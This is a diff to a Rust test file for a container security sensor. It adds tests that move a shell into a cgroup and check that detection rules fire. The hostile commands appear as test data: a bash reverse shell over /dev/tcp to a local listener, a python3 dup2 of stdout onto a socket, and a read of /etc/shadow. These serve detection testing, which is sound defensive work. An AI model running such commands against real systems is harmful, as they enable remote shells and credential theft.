@@ -283,25 +283,14 @@ fn shadow_read_in_controller(
     leaf: &str,
     args: &[&str],
 ) -> serde_json::Value {
-    let root = PathBuf::from("/sys/fs/cgroup").join(controller);
-    let cgroup = root.join(parent).join(leaf);
-    if let Err(e) = std::fs::create_dir_all(&cgroup) {
-        panic!("cannot create the test's cgroup {}: {e} (these tests need the cgroup v1 {controller} hierarchy, as on the CI machines)", cgroup.display());
-    }
-    let sensor = Sensor::start(args);
     // As in a real container, the shadow read is not the container's first process; the
     // runtime's answer arrives asynchronously, as with Falco.
-    sh(&format!(
-        "echo $$ > {}/cgroup.procs && sleep 0.5 && exec cat /etc/shadow > /dev/null",
-        cgroup.display()
-    ));
-    let alerts = sensor.stop();
-    // Remove the cgroups made here, innermost first (a directory still in use stays).
-    let mut dir = cgroup.as_path();
-    while dir != root {
-        let _ = std::fs::remove_dir(dir);
-        dir = dir.parent().unwrap();
-    }
+    let alerts = run_in_cgroup(
+        controller,
+        &format!("{parent}/{leaf}"),
+        args,
+        "sleep 0.5 && exec cat /etc/shadow > /dev/null",
+    );
     // Tests run side by side, each with its own sensor seeing every read: take this
     // container's.
     let hit = alerts
@@ -313,6 +302,39 @@ fn shadow_read_in_controller(
         })
         .unwrap_or_else(|| panic!("no alert from container {}: {alerts:#?}", &leaf[..12]));
     hit.clone()
+}
+
+/// Starts the sensor with `args`, runs `script` in a shell moved into the cgroup
+/// `/sys/fs/cgroup/<controller>/<path>` (as a container runtime would place it), stops the
+/// sensor and returns its alerts. Panics when the cgroup cannot be made (root on cgroup v1).
+fn run_in_cgroup(
+    controller: &str,
+    path: &str,
+    args: &[&str],
+    script: &str,
+) -> Vec<serde_json::Value> {
+    let root = PathBuf::from("/sys/fs/cgroup").join(controller);
+    let cgroup = root.join(path);
+    if let Err(e) = std::fs::create_dir_all(&cgroup) {
+        panic!("cannot create the test's cgroup {}: {e} (these tests need the cgroup v1 {controller} hierarchy, as on the CI machines)", cgroup.display());
+    }
+    let sensor = Sensor::start(args);
+    let status = Command::new("bash")
+        .args([
+            "-c",
+            &format!("echo $$ > {}/cgroup.procs && {script}", cgroup.display()),
+        ])
+        .status()
+        .unwrap();
+    let alerts = sensor.stop();
+    // Remove the cgroups made here, innermost first (a directory still in use stays).
+    let mut dir = cgroup.as_path();
+    while dir != root {
+        let _ = std::fs::remove_dir(dir);
+        dir = dir.parent().unwrap();
+    }
+    assert!(status.success(), "{script}");
+    alerts
 }
 
 fn assert_output_has(alert: &serde_json::Value, parts: &[String]) {
@@ -744,4 +766,96 @@ fn the_sensor_answers_healthz_and_logs_json_lines() {
         reqwest_get(&format!("http://{listen}/metrics")).contains("peregrine_sensor_events_total")
     );
     sensor.stop();
+}
+
+#[test]
+#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
+fn a_reverse_shell_in_a_container_fires_the_redirect_rule() {
+    use std::io::{Read, Write};
+    // The attacker's side: take the connection, tell the shell to exit, read what it printed.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let attacker = std::thread::spawn(move || {
+        let (mut conn, _) = listener.accept().unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(10)))
+            .unwrap();
+        conn.write_all(b"exit\n").unwrap();
+        let mut seen = Vec::new();
+        let _ = conn.read_to_end(&mut seen);
+    });
+    let id = container_id(0x5e11_0000_0000);
+    let alerts = run_in_cgroup(
+        "cpu",
+        &format!("docker/{id}"),
+        &[],
+        &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
+    );
+    attacker.join().unwrap();
+    let redirects: Vec<&serde_json::Value> = alerts
+        .iter()
+        .filter(|a| {
+            a["rule"] == "Redirect STDOUT/STDIN to Network Connection in Container"
+                && a["output_fields"]["container.id"] == id[..12]
+        })
+        .collect();
+    assert!(
+        !redirects.is_empty(),
+        "no redirect alert: {:#?}",
+        alerts.iter().map(|a| &a["rule"]).collect::<Vec<_>>()
+    );
+    let f = &redirects[0]["output_fields"];
+    assert_eq!(f["fd.type"], "ipv4");
+    assert_eq!(f["fd.l4proto"], "tcp");
+    assert_eq!(f["fd.rport"], port);
+    assert_eq!(f["fd.sip"], "127.0.0.1");
+    let name = f["fd.name"].as_str().unwrap();
+    assert!(
+        name.starts_with("127.0.0.1:") && name.ends_with(&format!("->127.0.0.1:{port}")),
+        "{name}"
+    );
+    assert_eq!(
+        f["fd.lport"].as_i64(),
+        name.split([':', '-']).nth(1).and_then(|p| p.parse().ok())
+    );
+}
+
+#[test]
+#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
+fn a_socket_inherited_across_fork_and_exec_is_still_a_socket_when_dup2_is_called() {
+    use std::io::Read;
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let peer = std::thread::spawn(move || {
+        let (mut conn, _) = listener.accept().unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(10)))
+            .unwrap();
+        let mut seen = Vec::new();
+        let _ = conn.read_to_end(&mut seen);
+    });
+    let id = container_id(0x1e9a_0000_0000);
+    // bash connects (fd 3); python3, forked and exec'd, inherits fd 3 and redirects stdout to it.
+    let alerts = run_in_cgroup(
+        "cpu",
+        &format!("docker/{id}"),
+        &[],
+        &format!(
+            "exec 3<>/dev/tcp/127.0.0.1/{port}; python3 -c 'import os; os.dup2(3, 1)'; exec 3>&-"
+        ),
+    );
+    peer.join().unwrap();
+    let hit = alerts.iter().find(|a| {
+        a["rule"] == "Redirect STDOUT/STDIN to Network Connection in Container"
+            && a["output_fields"]["proc.name"] == "python3"
+    });
+    let hit = hit.unwrap_or_else(|| {
+        panic!(
+            "no redirect alert from python3: {:#?}",
+            alerts
+                .iter()
+                .map(|a| (&a["rule"], &a["output_fields"]["proc.name"]))
+                .collect::<Vec<_>>()
+        )
+    });
+    assert_eq!(hit["output_fields"]["fd.rport"], port);
+    assert_eq!(hit["output_fields"]["container.id"], id[..12]);
 }
